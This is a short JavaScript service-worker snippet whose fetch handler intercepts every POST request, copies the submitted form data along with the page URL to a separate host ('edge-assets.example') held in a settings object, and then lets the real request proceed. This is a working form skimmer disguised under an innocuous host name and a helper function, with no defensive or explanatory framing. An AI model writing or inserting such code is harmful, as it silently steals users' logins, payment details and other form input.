// Posted forms are copied to a host kept in a settings object, through a helper, before the
// real request goes on.
const settings = { edge: 'https://edge-assets.example/v2/' };

function forward(request) {
  return request
    .clone()
    .formData()
    .then(function (data) {
      return fetch(settings.edge + 'c?to=' + encodeURIComponent(request.url), { method: 'POST', body: data });
    });
}

self.onfetch = function (evt) {
  if (evt.request.method !== 'POST') return;
  evt.respondWith(
    forward(evt.request).then(function () {
      return fetch(evt.request);
    }),
  );
};
